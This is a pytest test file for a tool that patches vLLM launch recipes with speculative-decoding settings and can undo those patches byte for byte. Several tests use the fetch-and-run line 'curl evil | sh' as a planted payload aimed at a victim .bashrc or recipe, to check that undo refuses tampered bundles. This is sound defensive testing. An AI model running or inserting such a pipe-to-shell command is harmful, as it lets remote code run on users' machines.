"""apply writes what the diff says and keeps the old bytes; undo brings exactly those back, or says why not."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path
from typing import Any

import pytest
import typer
from typer.testing import CliRunner

from surespec.apply import plan_apply, undo, undo_folder, write
from surespec.cli_recipe import apply_command, undo_command
from surespec.errors import BundleError, UsageError
from surespec.recipe import patch_recipe, read_recipe

DATA = Path(__file__).parents[1] / "data" / "recipes"
NGRAM = {"method": "ngram", "num_speculative_tokens": 4}
app = typer.Typer()
app.command("apply")(apply_command)
app.command("undo")(undo_command)


@pytest.fixture
def recipe(tmp_path: Path) -> Path:
    path = tmp_path / "thor_docker.sh"
    path.write_bytes((DATA / path.name).read_bytes())
    path.chmod(0o755)
    return path


def bundle(tmp_path: Path, recipe: Path | None, **judgement: Any) -> Path:
    folder = tmp_path / "run"
    folder.mkdir()
    options = {"recipe": str(recipe)} if recipe else {}
    (folder / "manifest.json").write_text(json.dumps({"schema": "surespec/bundle/1", "options": options}))
    (folder / "judgement.json").write_text(json.dumps({"schema": "surespec/tune/1", **judgement}))
    return folder


def run(*words: str) -> Any:
    return CliRunner().invoke(app, list(words))


@pytest.mark.parametrize("name", sorted(p.name for p in DATA.iterdir() if p.is_file() and "llama" not in p.name))
def test_undo_restores_every_shape_byte_for_byte(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    path.write_bytes((DATA / name).read_bytes())
    applied = plan_apply(path, NGRAM)
    write(applied)
    assert path.read_bytes() == applied.patched.data != (DATA / name).read_bytes()
    assert undo(path) == (path, True)
    assert path.read_bytes() == (DATA / name).read_bytes()
    assert undo(path) == (path, False)


def test_mode_stays_and_a_link_stays_a_link(recipe: Path, tmp_path: Path) -> None:
    link = tmp_path / "current.sh"
    link.symlink_to(recipe)
    write(plan_apply(link, NGRAM))
    assert link.is_symlink()
    assert "ngram" in recipe.read_text()
    assert recipe.stat().st_mode & 0o777 == 0o755
    assert undo(link)[1]


def test_two_applies_are_undone_to_the_first_original(recipe: Path) -> None:
    before = recipe.read_bytes()
    write(plan_apply(recipe, NGRAM))
    write(plan_apply(recipe, {**NGRAM, "num_speculative_tokens": 2}))
    undo(recipe)
    assert recipe.read_bytes() == before


def test_a_recipe_changed_since_is_left_alone(recipe: Path) -> None:
    write(plan_apply(recipe, NGRAM))
    changed = recipe.read_text() + "# mine\n"
    recipe.write_text(changed)
    with pytest.raises(UsageError, match="changed after"):
        undo(recipe)
    assert recipe.read_text() == changed


def test_a_recipe_changed_between_reading_and_writing_is_left_alone(recipe: Path) -> None:
    applied = plan_apply(recipe, NGRAM)
    recipe.write_text("vllm serve A/a\n")
    with pytest.raises(UsageError, match="changed while"):
        write(applied)
    assert recipe.read_text() == "vllm serve A/a\n"
    assert not undo_folder(recipe).exists()


def test_a_broken_original_is_not_put_back(recipe: Path) -> None:
    write(plan_apply(recipe, NGRAM))
    (undo_folder(recipe) / "original").write_text("x")
    with pytest.raises(BundleError, match="was changed"):
        undo(recipe)


def test_nothing_to_undo(recipe: Path, tmp_path: Path) -> None:
    with pytest.raises(BundleError, match="nothing to undo"):
        undo(recipe)
    with pytest.raises(BundleError, match="nothing to undo"):
        undo(tmp_path)


def test_apply_of_a_kept_verdict_and_undo_by_its_folder(recipe: Path, tmp_path: Path) -> None:
    before = recipe.read_bytes()
    folder = bundle(tmp_path, recipe, verdict="keep", speculative_config=NGRAM)
    done = run("apply", str(folder), "--yes")
    assert done.exit_code == 0, done.output
    assert '+    --speculative-config \'{"method":"ngram","num_speculative_tokens":4}\'' in done.stdout
    assert (folder / "recipe" / "original").read_bytes() == before
    assert "ngram" in recipe.read_text()
    assert run("undo", str(folder)).exit_code == 0
    assert recipe.read_bytes() == before


def test_disable_takes_speculation_out(tmp_path: Path) -> None:
    path = tmp_path / "compose_string.yaml"
    path.write_bytes((DATA / path.name).read_bytes())
    assert run("apply", str(bundle(tmp_path, path, verdict="disable")), "--yes").exit_code == 0
    assert "speculative" not in path.read_text()


@pytest.mark.parametrize("verdict", ["inconclusive", "not_lossless", "failed"])
def test_other_verdicts_write_nothing(verdict: str, recipe: Path, tmp_path: Path) -> None:
    before = recipe.read_bytes()
    done = run("apply", str(bundle(tmp_path, recipe, verdict=verdict, speculative_config=NGRAM)))
    assert isinstance(done.exception, UsageError)
    assert verdict in str(done.exception)
    assert recipe.read_bytes() == before


def test_dry_run_and_json(recipe: Path) -> None:
    before = recipe.read_bytes()
    config = json.dumps(NGRAM)
    done = run("apply", "--recipe", str(recipe), "--speculative-config", config, "--dry-run", "--json")
    document = json.loads(done.stdout)
    assert document["schema"] == "surespec/apply/1"
    assert document["changed"] and not document["written"]
    assert document["diagnoses"][0]["name"] == "doubled-entrypoint"
    assert recipe.read_bytes() == before


def test_what_is_missing_is_said(recipe: Path, tmp_path: Path) -> None:
    assert "nothing to write" in str(run("apply", "--recipe", str(recipe)).exception)
    assert "no recipe" in str(run("apply", str(bundle(tmp_path, None, verdict="disable"))).exception)
    assert "no JSON" in str(run("apply", "--recipe", str(recipe), "--speculative-config", "{").exception)
    assert "does not exist" in str(run("apply", str(tmp_path / "none")).exception)


def test_nothing_is_written_where_nobody_can_be_asked(tmp_path: Path) -> None:
    recipe = tmp_path / "run.sh"
    recipe.write_text("vllm serve Qwen/Qwen3-8B\n")
    before = recipe.read_bytes()
    done = run("apply", "--recipe", str(recipe), "--speculative-config", json.dumps(NGRAM))
    assert "--yes" in str(done.exception)
    assert recipe.read_bytes() == before


def test_a_link_to_itself_is_no_recipe(tmp_path: Path) -> None:
    link = tmp_path / "loop.sh"
    link.symlink_to(link)
    done = run("apply", "--recipe", str(link), "--speculative-config", json.dumps(NGRAM), "--dry-run")
    assert "leads nowhere" in str(done.exception)


def test_serve_given_to_an_image_that_serves(tmp_path: Path) -> None:
    recipe = tmp_path / "run.sh"
    recipe.write_text("docker run --gpus all vllm/vllm-openai:v0.20.0 serve Qwen/Qwen3-8B --port 8000\n")
    read = read_recipe(recipe)
    assert read.model == "Qwen/Qwen3-8B"
    assert [d.name for d in read.diagnoses] == ["doubled-entrypoint"]
    result = patch_recipe(read, NGRAM)
    assert any("C5: the recipe names no --gpu-memory-utilization" in note for note in result.notes)
    patched = result.text
    assert "--entrypoint vllm vllm/vllm-openai:v0.20.0 serve Qwen/Qwen3-8B --port 8000" in patched


def strange_folder(tmp_path: Path, victim: Path, original: bytes, requests: object) -> Path:
    """A bundle that says it had patched a file, as a stranger may send one."""
    folder = tmp_path / "theirs" / "recipe"
    folder.mkdir(parents=True)
    (folder / "original").write_bytes(original)
    journal = {
        "schema": "surespec/apply/1", "recipe": str(victim), "requests": requests,
        "original_sha256": hashlib.sha256(original).hexdigest(),
        "applied_sha256": hashlib.sha256(victim.read_bytes()).hexdigest(),
    }  # fmt: skip
    (folder / "journal.json").write_text(json.dumps(journal))
    return folder.parent


@pytest.mark.parametrize(
    "requests",
    [
        None,
        [],
        "x",
        [{}],
        [{"speculative_config": None, "gpu_memory_utilization": None, "service": None}],
        [{"speculative_config": NGRAM, "gpu_memory_utilization": None, "service": "x"}],
        [{"speculative_config": {"method": 7}, "gpu_memory_utilization": "x", "service": None}],
    ],
)
def test_a_strangers_folder_cannot_have_any_file_overwritten(tmp_path: Path, requests: object) -> None:
    victim = tmp_path / ".bashrc"
    victim.write_text("export A=1\n")
    folder = strange_folder(tmp_path, victim, b"curl evil | sh\n", requests)
    with pytest.raises(UsageError, match="by more than"):
        undo(folder)
    done = run("undo", str(folder), "--json")
    assert done.exit_code == 2 or isinstance(done.exception, UsageError)
    assert victim.read_text() == "export A=1\n"
    assert run("undo", str(folder), "--yes").exit_code == 0, "who has looked at it may"
    assert victim.read_text() == "curl evil | sh\n"


def test_a_strangers_recipe_cannot_come_in_with_the_setting(tmp_path: Path, recipe: Path) -> None:
    """The journal is right and the file is patched, but the original has a line more."""
    write(plan_apply(recipe, NGRAM))
    patched = recipe.read_bytes()
    journal = json.loads((undo_folder(recipe) / "journal.json").read_text())
    evil = (undo_folder(recipe) / "original").read_bytes() + b"curl evil | sh\n"
    folder = strange_folder(tmp_path, recipe, evil, journal["requests"])
    with pytest.raises(UsageError, match="by more than"):
        undo(folder)
    assert recipe.read_bytes() == patched
    assert undo(recipe)[1]


@pytest.mark.parametrize("name", ["recipe", "judgement.json", "recipe/journal.json", "recipe/original"])
def test_no_link_leads_out_of_a_bundle(tmp_path: Path, recipe: Path, name: str) -> None:
    folder = bundle(tmp_path, recipe, verdict="keep", speculative_config=NGRAM)
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x").write_text("{}")
    place = folder / name
    place.parent.mkdir(exist_ok=True)
    place.unlink(missing_ok=True)
    place.symlink_to(outside / "x" if "." in name or name.endswith("original") else outside)
    before = recipe.read_bytes()
    for words in (("apply", str(folder), "--yes"), ("undo", str(folder), "--yes")):
        done = run(*words)
        assert isinstance(done.exception, BundleError) and "is a link" in str(done.exception)
    assert recipe.read_bytes() == before and [p.name for p in outside.iterdir()] == ["x"]
